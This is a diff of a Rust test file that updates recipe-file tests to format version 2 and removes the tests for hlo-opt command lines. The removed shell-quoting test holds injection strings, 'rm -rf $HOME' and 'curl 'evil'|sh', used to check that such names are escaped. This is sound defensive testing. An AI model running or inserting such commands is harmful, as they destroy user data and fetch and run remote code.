@@ -1,12 +1,12 @@
-//! A recipe as a file, and as a command.
+//! A recipe as a file.
 
 mod common;
 
-use std::fs;
+use std::{fs, path::Path};
 
-use common::recipe;
-use xla_gym_recipe::{HloOpt, Recipe, RecipeError};
-use xla_gym_score::Start;
+use common::{open, place, recipe};
+use xla_gym_profile::Ratio;
+use xla_gym_recipe::{Imported, Recipe, RecipeError, StageEvidence, VERSION};
 
 #[test]
 fn a_file_comes_back_the_same_and_is_for_people_too() {
@@ -17,7 +17,7 @@ fn a_file_comes_back_the_same_and_is_for_people_too() {
     written.write(&path).unwrap();
     assert_eq!(Recipe::read(&path).unwrap(), written);
     let text = fs::read_to_string(&path).unwrap();
-    assert!(text.starts_with("{\n  \"version\": 1,\n") && text.ends_with("}\n"), "{text}");
+    assert!(text.starts_with("{\n  \"version\": 2,\n") && text.ends_with("}\n"), "{text}");
     assert_eq!(fs::read_dir(folder.path()).unwrap().count(), 1, "nothing is left beside it");
 }
 
@@ -31,14 +31,25 @@ fn errors_name_the_file_and_leave_it_alone() {
         error
     };
     assert!(matches!(fails(), RecipeError::Read { .. }));
-    fs::write(&path, "{\"version\": 2, \"anything\": []}").unwrap();
-    let error = fails().to_string();
-    assert!(error.contains("has version 2, and version 1 is read"), "{error}");
-    fs::write(&path, "{\"version\": 1}").unwrap();
-    assert!(fails().to_string().contains("missing field"), "{}", fails());
+    for version in [0, 3] {
+        fs::write(&path, format!("{{\"version\": {version}, \"anything\": []}}")).unwrap();
+        let error = fails().to_string();
+        let says = format!("has version {version}, and versions 1 to 2 are read; make it again");
+        assert!(error.contains(&says), "{error}");
+    }
+    for (text, says) in [
+        ("[2]", "not a recipe"),
+        ("[1]", "not a recipe"),
+        ("{\"version\": 2}", "missing field"),
+        ("{\"version\": 1, \"evidence\": 3}", "not a recipe"),
+        ("{\"version\": 1}", "missing field"),
+    ] {
+        fs::write(&path, text).unwrap();
+        assert!(fails().to_string().contains(says), "{text}: {}", fails());
+    }
 
     let mut endless = recipe(1, 2.0, 2);
-    endless.evidence.order_ratio = Some(f64::NAN);
+    endless.evidence.stages[0].value = Some(f64::NAN);
     let error = endless.write(&path).unwrap_err();
     assert!(matches!(error, RecipeError::Doubtful { .. }), "{error}");
     assert_eq!(fs::read_to_string(&path).unwrap(), "{\"version\": 1}", "it is left as it was");
@@ -49,53 +60,72 @@ fn errors_name_the_file_and_leave_it_alone() {
     assert!(error.to_string().contains("missing/recipe.json"), "{error}");
 }
 
-fn with_passes(start: Start, passes: &[&str]) -> Recipe {
-    let passes = passes.iter().map(|pass| (*pass).to_owned()).collect();
-    Recipe { start, passes, ..recipe(1, 2.0, 0) }
+/// A recipe as the first version wrote it.
+fn first_version(name: &str) -> String {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data");
+    fs::read_to_string(folder.join(name)).unwrap()
 }
 
-fn command(line: &str, approximated: &[&str]) -> HloOpt {
-    let approximated = approximated.iter().map(|pass| (*pass).to_owned()).collect();
-    HloOpt { line: line.to_owned(), approximated }
-}
-
-#[test]
-fn the_command_runs_the_passes_in_their_order() {
-    let normalising = ["dot_decomposer", "call-inliner:single-call-site"];
-    let line = |recipe: &Recipe| recipe.hlo_opt_line(&normalising);
-
-    let plain = with_passes(Start::Emitted, &["dce", "algsimp", "dce"]);
-    let expected = "hlo-opt --platform=CPU --passes=dce,algsimp,dce FILE.hlo";
-    assert_eq!(line(&plain), command(expected, &[]));
-
-    let passes = ["algsimp:dot-strength", "cse", "algsimp:dot-strength"];
-    let normalised = with_passes(Start::Normalised, &passes);
-    let expected = "hlo-opt --platform=CPU \
-                    --passes=dot_decomposer,call-inliner,algsimp,cse,algsimp FILE.hlo";
-    let approximated = ["call-inliner:single-call-site", "algsimp:dot-strength"];
-    assert_eq!(line(&normalised), command(expected, &approximated));
+fn stage(name: &str, figures: [u64; 3], value: f64) -> StageEvidence {
+    let [initial, default, result] = figures;
+    let (stage, ratio) = (name.to_owned(), Ratio { initial, default, result });
+    StageEvidence { stage, ratio, value: Some(value) }
 }
 
 #[test]
-fn without_passes_the_command_runs_the_pipeline_less_what_is_disabled() {
-    let mut recipe = with_passes(Start::Emitted, &[]);
-    let expected = "hlo-opt --platform=CPU --xla_disable_hlo_passes=cse FILE.hlo";
-    assert_eq!(recipe.hlo_opt_line(&["dce"]).line, expected);
-    recipe.disabled_passes.clear();
-    assert_eq!(recipe.hlo_opt_line(&["dce"]).line, "hlo-opt --platform=CPU FILE.hlo");
+fn the_first_version_is_read_with_its_stages() {
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("recipe.json");
+    let read = |text: &str| {
+        fs::write(&path, text).unwrap();
+        Recipe::read(&path).unwrap()
+    };
+    let found = read(&first_version("version-1.json"));
+    assert_eq!((found.version, found.start.as_str(), found.pipeline.as_str()), (2, "emitted", ""));
+    assert_eq!((found.passes.len(), found.evidence.figures.len()), (10, 6));
+    let stages = [
+        stage("order", [95, 58, 90], 0.13513513513513514),
+        stage("legal", [303, 108, 88], 1.1025641025641026),
+    ];
+    assert_eq!(found.evidence.stages, stages);
+    assert_eq!(found.evidence.stage("legal"), Some(&stages[1]));
+    assert_eq!(found.evidence.stage("kernels"), None);
+    assert!(found.evidence.outputs.as_ref().unwrap().is_equal());
+
+    let own = read(&first_version("version-1-normalised.json"));
+    assert!(own.is_default());
+    assert_eq!((own.start.as_str(), own.evidence.stages.len()), ("normalized", 2));
+
+    // Where the compiler itself removed nothing there was no ratio.
+    let without = first_version("version-1.json").replace("1.1025641025641026", "null");
+    assert_eq!(read(&without).evidence.stages[1].value, None);
+
+    // From then on it is one of today's.
+    found.write(&path).unwrap();
+    assert!(fs::read_to_string(&path).unwrap().contains("\"version\": 2"));
+    assert_eq!(Recipe::read(&path).unwrap(), found);
 }
 
 #[test]
-fn a_pass_of_evil_name_stays_a_name_in_the_shell() {
-    let evil = with_passes(Start::Emitted, &["dce'; rm -rf $HOME #"]);
-    let expected = r"hlo-opt --platform=CPU --passes='dce'\''; rm -rf $HOME #' FILE.hlo";
-    assert_eq!(evil.hlo_opt_line(&[]).line, expected);
-
-    let mut recipe = recipe(1, 2.0, 0);
-    assert_eq!(recipe.xla_flags().unwrap(), "XLA_FLAGS=--xla_disable_hlo_passes=cse");
-    recipe.disabled_passes.push("x;curl 'evil'|sh".to_owned());
-    let expected = r"XLA_FLAGS=--xla_disable_hlo_passes='cse,x;curl '\''evil'\''|sh'";
-    assert_eq!(recipe.xla_flags().unwrap(), expected);
-    recipe.disabled_passes.clear();
-    assert_eq!(recipe.xla_flags(), None);
+fn stores_take_the_first_version_and_know_what_they_kept_of_it() {
+    let (_folder, path) = place();
+    let line = |name| first_version(name).replace('\n', "") + "\n";
+    let text = line("version-1.json") + &line("version-1-normalised.json");
+    let store = open(&path);
+    let taken = Imported { offered: 2, taken: 2, refused: Vec::new() };
+    assert_eq!(
+        store.import(text.as_bytes()).unwrap(),
+        taken,
+        "their gains follow from their figures"
+    );
+    drop(store);
+    // What an earlier release kept lies in the file as it was written.
+    let connection = rusqlite::Connection::open(&path).unwrap();
+    let sql = "UPDATE recipes SET body = ?1 WHERE gain > 1";
+    assert_eq!(connection.execute(sql, [line("version-1.json")]).unwrap(), 1);
+    drop(connection);
+    let known = open(&path).list().unwrap();
+    assert!(known.iter().all(|recipe| recipe.version == VERSION));
+    let gains: Vec<f64> = known.iter().map(|recipe| recipe.gain).collect();
+    assert_eq!(gains.iter().copied().fold(1.0, f64::max), 108.0 / 88.0);
 }
